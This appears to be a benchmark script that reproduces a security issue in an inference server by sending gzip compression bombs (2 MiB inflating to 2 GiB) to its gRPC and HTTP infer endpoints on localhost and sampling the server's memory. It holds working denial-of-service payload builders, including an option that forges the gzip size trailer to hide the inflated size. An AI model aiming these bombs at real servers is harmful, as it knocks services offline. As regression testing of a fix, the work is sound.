"""A compression bomb against a running server, its RSS sampled before, during and after:
security issue 37's case, a 2 MiB gzip message of 2 GiB of zeros.

    python bench/compressed_bodies.py --pid PID --grpc-port P --http-port Q [--gib 2] [--hide-size]

The gRPC bomb is a ModelInferRequest for ``add_sub`` whose raw input is ``--gib`` GiB of
zeros, gzip-compressed and sent on a raw HTTP/2 connection (``h2``) with the compressed
flag and ``grpc-encoding: gzip``; the HTTP bomb is a binary-tensor infer body of as many
zeros with ``Content-Encoding: gzip``. Each prints the answer's status and text, and the
server's VmRSS (``/proc/PID/status``) before, at its peak while the request runs (sampled
every 5 ms) and 3 s after the answer.
"""

from __future__ import annotations

import argparse
import http.client
import json
import socket
import threading
import time
import zlib
from collections.abc import Callable, Iterator
from pathlib import Path

from hpack import Decoder, Encoder
from hyperframe.frame import (
    DataFrame,
    Frame,
    HeadersFrame,
    PingFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)
from tritonclient.grpc import service_pb2 as pb

INFER = "/inference.GRPCInferenceService/ModelInfer"
ZEROS = bytes(1 << 20)
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def _varint(value: int) -> bytes:
    out = bytearray()
    while value > 0x7F:
        out.append(value & 0x7F | 0x80)
        value >>= 7
    out.append(value)
    return bytes(out)


def _gzip(parts: Iterator[bytes]) -> bytes:
    deflater = zlib.compressobj(9, wbits=31)
    out = [deflater.compress(part) for part in parts]
    out.append(deflater.flush())
    return b"".join(out)


def _zeros(size: int) -> Iterator[bytes]:
    for start in range(0, size, len(ZEROS)):
        yield ZEROS[: min(len(ZEROS), size - start)]


def grpc_bomb(size: int) -> bytes:
    """A gzip ModelInferRequest whose raw input (field 7) is ``size`` zero bytes."""
    head = pb.ModelInferRequest(model_name="add_sub")
    head.inputs.add(name="INPUT0", datatype="FP32", shape=[1, size // 4])
    prefix = head.SerializeToString() + b"\x3a" + _varint(size)
    return _gzip(iter([prefix, *_zeros(size)]))


def http_header(size: int) -> bytes:
    """The JSON header of a binary-tensor infer body of ``size`` zero bytes."""
    return json.dumps(
        {
            "inputs": [
                {
                    "name": "INPUT0",
                    "datatype": "FP32",
                    "shape": [1, size // 4],
                    "parameters": {"binary_data_size": size},
                }
            ]
        }
    ).encode()


def http_bomb(size: int) -> bytes:
    """That body, gzip-compressed."""
    return _gzip(iter([http_header(size), *_zeros(size)]))


def cached(path: Path, build: Callable[[], bytes]) -> bytes:
    if not path.exists():
        path.write_bytes(build())
    return path.read_bytes()


class RawGrpcCall:
    """One gRPC call on a raw HTTP/2 connection (``hyperframe`` and ``hpack``: no state
    machine, so a server that resets the stream and then sends its trailers, as grpc core
    does, is read as it is): sends the body as the flow-control windows allow while a
    thread reads the answer."""

    def __init__(self, port: int, path: str, headers: list[tuple[str, str]]) -> None:
        self.sock = socket.create_connection(("127.0.0.1", port), timeout=600)
        self.fields: dict[str, str] = {}
        self.ended = threading.Event()
        self.window = threading.Condition()
        self.connection_window = self.stream_window = 65535
        self.max_frame = 16384
        self.decoder = Decoder()
        self.sock.sendall(PREFACE + SettingsFrame(0).serialize())
        block = Encoder().encode(
            [
                (":method", "POST"),
                (":scheme", "http"),
                (":path", path),
                (":authority", "127.0.0.1"),
                ("content-type", "application/grpc"),
                ("te", "trailers"),
                *headers,
            ]
        )
        frame = HeadersFrame(1, block, flags=["END_HEADERS"])
        self.sock.sendall(frame.serialize())
        self.reader = threading.Thread(target=self._read, daemon=True)
        self.reader.start()

    def _read(self) -> None:
        buffer = b""
        try:
            while not self.ended.is_set():
                data = self.sock.recv(1 << 20)
                if not data:
                    break
                buffer += data
                while len(buffer) >= 9:
                    frame, length = Frame.parse_frame_header(memoryview(buffer[:9]))
                    if len(buffer) < 9 + length:
                        break
                    frame.parse_body(memoryview(buffer[9 : 9 + length]))
                    buffer = buffer[9 + length :]
                    self._received(frame)
        except OSError:
            pass
        self.ended.set()
        with self.window:
            self.window.notify_all()

    def _received(self, frame: Frame) -> None:
        with self.window:
            if isinstance(frame, SettingsFrame) and "ACK" not in frame.flags:
                initial = frame.settings.get(SettingsFrame.INITIAL_WINDOW_SIZE)
                if initial is not None:
                    self.stream_window += initial - 65535
                self.max_frame = frame.settings.get(SettingsFrame.MAX_FRAME_SIZE, self.max_frame)
                self.sock.sendall(SettingsFrame(0, flags=["ACK"]).serialize())
            elif isinstance(frame, WindowUpdateFrame):
                if frame.stream_id:
                    self.stream_window += frame.window_increment
                else:
                    self.connection_window += frame.window_increment
            elif isinstance(frame, PingFrame) and "ACK" not in frame.flags:
                self.sock.sendall(PingFrame(0, frame.opaque_data, flags=["ACK"]).serialize())
            elif isinstance(frame, HeadersFrame):
                self.fields.update(self.decoder.decode(frame.data))
                if "END_STREAM" in frame.flags:
                    self.ended.set()
            elif isinstance(frame, RstStreamFrame):
                self.fields.setdefault("rst_stream", str(frame.error_code))
            self.window.notify_all()

    def send(self, body: bytes) -> None:
        """Send ``body`` (END_STREAM on its last frame) unless the answer comes first."""
        view = memoryview(body)
        while view and not self.ended.is_set():
            with self.window:
                room = min(self.connection_window, self.stream_window, self.max_frame, len(view))
                if room <= 0:
                    self.window.wait(1)
                    continue
                self.connection_window -= room
                self.stream_window -= room
            last = room == len(view)
            frame = DataFrame(1, bytes(view[:room]), flags=["END_STREAM"] if last else [])
            try:
                self.sock.sendall(frame.serialize())
            except OSError:
                break
            view = view[room:]

    def answer(self, timeout: float = 600) -> dict[str, str]:
        """The response headers and trailers once the stream ended."""
        self.ended.wait(timeout)
        self.sock.close()
        return self.fields


def grpc_call(port: int, message: bytes) -> tuple[str, str]:
    """Send one compressed ModelInfer message: (grpc-status, grpc-message)."""
    call = RawGrpcCall(port, INFER, [("grpc-encoding", "gzip")])
    call.send(b"\x01" + len(message).to_bytes(4, "big") + message)
    fields = call.answer()
    return fields.get("grpc-status", f"none (RST_STREAM {fields.get('rst_stream')})"), fields.get(
        "grpc-message", ""
    )


def http_call(port: int, body: bytes, header_size: int) -> tuple[str, str]:
    """POST the gzip body to add_sub's infer: (status, text)."""
    conn = http.client.HTTPConnection("127.0.0.1", port, timeout=600)
    headers = {
        "Content-Encoding": "gzip",
        "Content-Type": "application/octet-stream",
        "Inference-Header-Content-Length": str(header_size),
    }
    try:
        conn.request("POST", "/v2/models/add_sub/infer", body, headers)
        response = conn.getresponse()
        return str(response.status), response.read()[:300].decode(errors="replace")
    except OSError as exc:
        return "connection error", str(exc)
    finally:
        conn.close()


def rss_mib(pid: int) -> float:
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        if line.startswith("VmRSS:"):
            return int(line.split()[1]) / 1024
    raise RuntimeError("no VmRSS")


def measured(pid: int, call: Callable[[], tuple[str, str]]) -> str:
    """The call's answer and the server's RSS (MiB) before, at its peak, 3 s after."""
    before = rss_mib(pid)
    peak = before
    done = threading.Event()

    def sample() -> None:
        nonlocal peak
        while not done.is_set():
            peak = max(peak, rss_mib(pid))
            time.sleep(0.005)

    sampler = threading.Thread(target=sample)
    sampler.start()
    started = time.monotonic()
    try:
        status, text = call()
    finally:
        elapsed = time.monotonic() - started
        time.sleep(3)
        done.set()
        sampler.join()
    after = rss_mib(pid)
    return (
        f"status {status} {text!r} in {elapsed:.1f} s; RSS before {before:.0f} MiB, "
        f"peak {peak:.0f} MiB, 3 s after {after:.0f} MiB"
    )


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--pid", type=int, required=True)
    parser.add_argument("--grpc-port", type=int)
    parser.add_argument("--http-port", type=int)
    parser.add_argument("--gib", type=float, default=2.0)
    parser.add_argument("--cache", type=Path, default=Path("/tmp"))
    parser.add_argument(
        "--hide-size",
        action="store_true",
        help="send a gzip trailer claiming 0 bytes: only inflating finds the size",
    )
    args = parser.parse_args()
    size = int(args.gib * (1 << 30))

    def trailer(body: bytes) -> bytes:
        return body[:-4] + bytes(4) if args.hide_size else body

    if args.grpc_port:
        message = trailer(cached(args.cache / f"grpc_bomb_{size}.gz", lambda: grpc_bomb(size)))
        print(f"gRPC: {len(message)} bytes of gzip, {size} inflated")
        print("gRPC:", measured(args.pid, lambda: grpc_call(args.grpc_port, message)))
    if args.http_port:
        body = trailer(cached(args.cache / f"http_bomb_{size}.gz", lambda: http_bomb(size)))
        header_size = len(http_header(size))
        print(f"HTTP: {len(body)} bytes of gzip, {size} inflated")
        print("HTTP:", measured(args.pid, lambda: http_call(args.http_port, body, header_size)))


if __name__ == "__main__":
    main()
